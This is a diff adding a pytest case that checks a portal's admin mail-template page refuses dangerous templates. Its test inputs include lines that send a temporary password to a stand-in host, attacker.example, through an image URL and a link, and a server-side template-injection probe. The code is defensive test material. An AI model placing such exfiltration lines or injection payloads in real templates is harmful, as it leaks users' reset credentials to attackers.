@@ -142,3 +142,21 @@ def test_sign_in_pages_are_rate_limited(client):
         statuses = [client.get(url).status_code for _ in range(6)]
         assert statuses == [200] * 5 + [429], url
         assert client.get(url).headers.get("Retry-After")
+
+
+@pytest.mark.parametrize(("html_extra", "said"), [
+    ('<img src="https://attacker.example/?p={{ temporary_password | urlencode }}">', "through a filter"),  # as reported
+    ("<p>Check: https://attacker.example/?p={{ temporary_password }}</p>", "inside a link or a longer word"),
+    ("{{ ''.__class__.__mro__ }}", "fails when it is filled in"), ("{{ foo.bar.baz }}", "fails when it is filled in"),
+    ("{{ 1/0 }}", "fails when it is filled in")])
+def test_mail_template_page_refuses_leaks_and_broken_templates(db, login_as, client, html_extra, said):
+    """The admin's page answers 422 with the reason and keeps what was typed; nothing is saved, nothing crashes."""
+    from portal import mail, policy
+
+    login_as("admin")
+    page = client.get("/admin/settings/mail").get_data(as_text=True)
+    template = dict(mail.DEFAULT_TEMPLATES["password_reset"])
+    template["html"] += html_extra
+    response = client.post("/admin/settings/mail", data=dict(template, csrf_token=csrf_from(page)))
+    assert response.status_code == 422 and said in response.get_data(as_text=True)
+    assert policy.mail_template("password_reset") == mail.DEFAULT_TEMPLATES["password_reset"]
